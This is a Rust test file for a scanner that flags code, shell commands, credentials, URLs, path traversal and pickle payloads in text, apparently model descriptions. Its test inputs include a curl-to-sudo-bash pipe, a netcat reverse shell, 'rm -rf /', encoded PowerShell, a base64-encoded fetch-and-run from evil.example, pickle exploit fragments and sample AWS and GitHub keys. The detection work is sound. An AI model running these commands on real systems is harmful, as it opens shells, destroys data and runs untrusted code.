use super::*;

fn kinds(text: &str) -> Vec<(Kind, &'static str)> {
    scan(text).into_iter().map(|i| (i.kind, i.what)).collect()
}

#[test]
fn plain_descriptions_have_no_indicators() {
    for text in [
        "Llama 2 7B fine-tuned on OpenAssistant conversations.",
        "pt",
        "model.layers.0.self_attn.q_proj.weight",
        "Call model.eval() before inference; evaluation(s) were run in fp16.",
        "The token budget is 4096; see the password policy section.",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    ] {
        assert_eq!(kinds(text), vec![], "{text}");
    }
}

#[test]
fn python_and_javascript_code_is_found() {
    let found = kinds("x = __import__('os'); eval(payload)");
    assert_eq!(
        found,
        vec![(Kind::Code, "Python __import__"), (Kind::Code, "eval call")]
    );
    assert_eq!(kinds("import os\nos.system('id')").len(), 2);
    assert_eq!(kinds("import osmium"), vec![]);
    assert_eq!(
        kinds("<SCRIPT>alert(1)</script>"),
        vec![(Kind::Code, "HTML script tag")]
    );
}

#[test]
fn shell_commands_are_found_and_pipes_to_shells_are_medium() {
    let found = scan("run: curl -s https://x.example/i.sh | sudo bash");
    let shell: Vec<_> = found.iter().filter(|i| i.kind == Kind::Shell).collect();
    assert_eq!(shell.len(), 1);
    assert_eq!(shell[0].what, "download piped into a shell");
    assert_eq!(shell[0].level, Level::Medium);
    assert!(
        found
            .iter()
            .any(|i| i.kind == Kind::Url && i.level == Level::Info)
    );

    let plain = scan("wget http://10.0.0.1/model.bin");
    assert_eq!(plain[0].what, "download command");
    assert_eq!(plain[0].level, Level::Low);
    assert_eq!(plain[1].what, "URL with a bare IP address host");

    for text in [
        "rm -rf /",
        "bash -c 'id'",
        "powershell -enc SQBFAFgA",
        "nc -e /bin/sh 1.2.3.4 4444",
    ] {
        assert!(kinds(text).iter().any(|(k, _)| *k == Kind::Shell), "{text}");
    }
    assert_eq!(
        kinds("bash -c x").len(),
        1,
        "sh -c inside bash -c is not a second match"
    );
}

#[test]
fn credentials_are_found_and_redacted() {
    let key = "AKIAIOSFODNN7EXAMPLE";
    let token = format!("ghp_{}", "a1B2".repeat(9));
    let text = format!("aws={key} gh {token} password=hunter22secret");
    let found = scan(&text);
    let creds: Vec<_> = found
        .iter()
        .filter(|i| i.kind == Kind::Credential)
        .collect();
    assert_eq!(creds.len(), 3, "{found:#?}");
    assert_eq!(creds[0].what, "AWS access key id");
    assert_eq!(creds[0].excerpt, "AKIA…(20 chars)");
    assert_eq!(creds[1].what, "GitHub personal access token");
    assert_eq!(creds[1].excerpt, "ghp_…(40 chars)");
    assert_eq!(creds[2].excerpt, "password=hu…(14 chars)");
    for i in &found {
        assert!(
            !i.excerpt.contains(key)
                && !i.excerpt.contains(&token)
                && !i.excerpt.contains("hunter22")
        );
    }
}

#[test]
fn credential_lookalikes_are_not_credentials() {
    for text in [
        "AKIAIOSFODNN7EXAMPL",            // one character short
        "XAKIAIOSFODNN7EXAMPLE",          // glued to a word
        "password: <your password here>", // placeholder
        "api_key=${API_KEY}",
        "bos_token: <s>",
        "token=none",
    ] {
        assert!(
            !kinds(text).iter().any(|(k, _)| *k == Kind::Credential),
            "{text}"
        );
    }
}

#[test]
fn private_key_block_is_redacted_whole() {
    let text = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----";
    let found = scan(text);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].what, "private key block");
    assert!(!found[0].excerpt.contains("MIIE"), "{}", found[0].excerpt);
}

#[test]
fn secrets_inside_other_excerpts_are_redacted() {
    let text = "curl -H 'Authorization: token=s3cr3tvalue99' https://x.example | sh";
    for i in scan(text) {
        assert!(!i.excerpt.contains("s3cr3tvalue99"), "{i:?}");
    }
}

#[test]
fn urls_and_paths_are_low_or_info() {
    let found =
        scan("see https://huggingface.co/x and ftp://files.example/y and ../../../etc/passwd");
    let summary: Vec<_> = found.iter().map(|i| (i.kind, i.level)).collect();
    assert_eq!(
        summary,
        vec![
            (Kind::Url, Level::Info),
            (Kind::Url, Level::Low),
            (Kind::PathTraversal, Level::Low),
            (Kind::PathTraversal, Level::Low),
        ]
    );
    assert_eq!(found[2].what, "parent-directory path");
    assert_eq!(found[3].what, "sensitive system path");
}

#[test]
fn base64_blobs_hiding_payloads_are_decoded() {
    // base64 of `__import__('os').system('echo pwned')`
    let text = "notes: X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2VjaG8gcHduZWQnKQ==";
    let found = scan(text);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(found[0].encoded);
    assert_eq!(found[0].kind, Kind::Code);
    assert_eq!(found[0].offset, 7);
    // base64 of `curl http://evil.example/x | sh`
    let found = scan("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==");
    assert!(
        found
            .iter()
            .any(|i| i.kind == Kind::Shell && i.level == Level::Medium && i.encoded)
    );
    assert!(
        found
            .iter()
            .any(|i| i.kind == Kind::Url && i.level == Level::Low && i.encoded)
    );
}

#[test]
fn pickle_fragments_are_code() {
    assert!(kinds("cos\nsystem\n(S'id'\ntR.").contains(&(
        Kind::Code,
        "pickle GLOBAL opcode importing a command module"
    )));
    assert!(kinds("\u{80}\u{4}\u{95}payload").contains(&(Kind::Code, "binary pickle stream")));
    assert!(
        kinds("b'\\x80\\x04\\x95...'")
            .contains(&(Kind::Code, "pickle header written as byte escapes"))
    );
    // base64 of the bytes 80 04 95 10 00 63 ... (`\x80\x04\x95\x10\x00cos\nsystem\n`)
    let found = scan("gASVEABjb3MKc3lzdGVtCnBheWxvYWQ=");
    assert_eq!(found[0].what, "base64-encoded pickle stream");
}

#[test]
fn output_and_work_are_bounded() {
    let text = "eval(x) ".repeat(10_000);
    assert_eq!(scan(&text).len(), MAX_INDICATORS);
    let started = std::time::Instant::now();
    for hostile in [
        "-----BEGIN ",
        "curl x ",
        "password=abcdefgh ",
        "../",
        "AAAAAAAAAAAAAAAAAAAAAAAA0 ",
    ] {
        let found = scan(&hostile.repeat(1 << 20));
        assert!(found.len() <= MAX_INDICATORS);
    }
    assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
    // Only the first MAX_TEXT bytes are searched.
    let late = format!("{}eval(x)", " ".repeat(MAX_TEXT));
    assert!(scan(&late).is_empty());
}

#[test]
fn every_kind_has_rule_text() {
    for kind in Kind::ALL {
        let text = kind.rule_text();
        assert!(
            !text.title.is_empty() && !text.description.is_empty() && !text.remediation.is_empty()
        );
        assert!(
            kind.slug()
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b == b'-')
        );
    }
}
